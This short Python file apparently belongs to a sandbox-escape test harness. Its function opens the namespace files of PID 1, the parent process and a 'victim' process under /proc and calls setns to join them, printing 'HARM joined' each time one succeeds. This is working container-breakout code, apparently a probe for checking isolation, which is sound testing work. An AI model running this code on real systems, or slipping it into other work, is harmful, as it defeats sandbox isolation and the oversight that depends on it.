"""Joins the namespaces of the first process, of its parent and of another one."""

import ctypes
import os


def f(world):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (1, os.getppid(), world.victim):
        for kind in ("user", "mnt", "net", "pid"):
            try:
                number = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(number, 0) == 0:
                print("HARM joined", kind)
